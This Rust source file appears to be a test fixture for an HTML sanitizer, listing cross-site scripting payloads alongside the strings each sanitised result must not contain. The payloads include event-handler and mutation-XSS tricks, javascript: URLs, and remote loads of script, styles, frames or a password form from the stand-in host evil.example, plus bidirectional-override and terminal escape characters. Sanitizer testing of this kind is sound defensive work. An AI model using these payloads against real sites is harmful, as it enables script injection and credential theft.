//! Pages that are made to run, load or show something that they must not.

/// What came in, and what must not stand in the result.
pub(super) const ATTACKS: &[(&str, &[&str])] = &[
    ("<script>alert(1)</script>", &["alert"]),
    ("<ScRiPt src=//x.example/a.js></sCrIpT>x", &["x.example"]),
    ("<script/x>alert(1)</script\n>", &["alert"]),
    ("<scr<script>ipt>alert(1)</script>", &["<scr"]),
    ("<img src=x onerror=alert(1)>", &["onerror", "alert"]),
    ("<svg/onload=alert(1)>", &["svg", "onload"]),
    ("<svg><script>alert(1)</script></svg>", &["alert"]),
    (
        "<svg><style><img src=x onerror=alert(1)></style>",
        &["onerror"],
    ),
    (
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
        &["onerror", "<img", "<math"],
    ),
    (
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
        &["<form", "<img", "<math"],
    ),
    (
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        &["<img", "title"],
    ),
    (
        "<textarea></textarea><img src=x onerror=alert(1)>",
        &["<textarea", "<img"],
    ),
    (
        "<title><img src=x onerror=alert(1)></title>",
        &["onerror", "<img"],
    ),
    ("<xmp><img src=x onerror=alert(1)></xmp>", &["<xmp", "<img"]),
    (
        "<plaintext><img src=x onerror=alert(1)>",
        &["<plaintext", "<img"],
    ),
    ("<!--><img src=x onerror=alert(1)>-->", &["<img", "<!--"]),
    (
        "<!--[if mso]><img src=x onerror=alert(1)><![endif]-->",
        &["<img", "<!--"],
    ),
    ("<![CDATA[<img src=x onerror=alert(1)>]]>", &["<img"]),
    ("<a href=javascript:alert(1)>x</a>", &["href"]),
    ("<a href='java\nscript:alert(1)'>x</a>", &["href", "\n"]),
    (
        "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
        &["href", "<script"],
    ),
    (
        "<a href='x' style='position:fixed;top:0;left:0;width:100%'>x</a>",
        &["style", "position"],
    ),
    (
        "<base href=//evil.example/><a href=x>y</a>",
        &["<base", "href"],
    ),
    (
        "<meta http-equiv=refresh content='0;url=http://evil.example'>",
        &["<meta", "http-equiv"],
    ),
    (
        "<link rel=stylesheet href=http://evil.example/a.css>",
        &["<link", "evil.example"],
    ),
    (
        "<style>@import 'http://evil.example/a.css'; body{background:url(http://evil.example)}</style>",
        &["evil.example", "import"],
    ),
    (
        "<div style=\"background:url(http://evil.example/x)\">x</div>",
        &["evil.example", "style"],
    ),
    (
        "<body background=http://evil.example/x onload=alert(1)>",
        &["evil.example", "onload"],
    ),
    (
        "<iframe src=http://evil.example></iframe>",
        &["<iframe", "src"],
    ),
    (
        "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
        &["srcdoc", "alert"],
    ),
    (
        "<object data=http://evil.example></object>",
        &["<object", "data="],
    ),
    ("<embed src=http://evil.example>", &["<embed", "src"]),
    (
        "<video poster=http://evil.example><source src=http://evil.example></video>",
        &["evil.example"],
    ),
    (
        "<form action=http://evil.example><input name=password type=password><button formaction=x>go</button></form>",
        &["<form", "<input", "<button", "action="],
    ),
    (
        "<input autofocus onfocus=alert(1)>",
        &["onfocus", "autofocus"],
    ),
    (
        "<p id=top class=\"hidden mark\" name=x>x</p>",
        &["id=", "class", "name"],
    ),
    (
        "</div></div></body></html><script>alert(1)</script>",
        &["</div>", "</body>", "alert"],
    ),
    (
        "<p title='\">x</p><img src=x onerror=alert(1)>'>y</p>",
        &["title", "onerror"],
    ),
    (
        "<img src=\"x` `<script>alert(1)</script>\"` `>",
        &["<script", "<img"],
    ),
    ("<0script>alert(1)</0script>", &["<0"]),
    (
        "<template><script>alert(1)</script><img src=x></template>",
        &["<template", "alert(1)<"],
    ),
    (
        "\u{202e}gpj.exe\u{202c} \u{7}\u{1b}[2J\u{9b}31m",
        &["\u{202e}", "\u{1b}", "\u{7}", "\u{9b}"],
    ),
    (
        "&#x202e;&#8238;&lt;script&gt;alert(1)&lt;/script&gt;",
        &["\u{202e}", "<script"],
    ),
    ("&lt;img src=x onerror=alert(1)&gt;", &["<img"]),
];
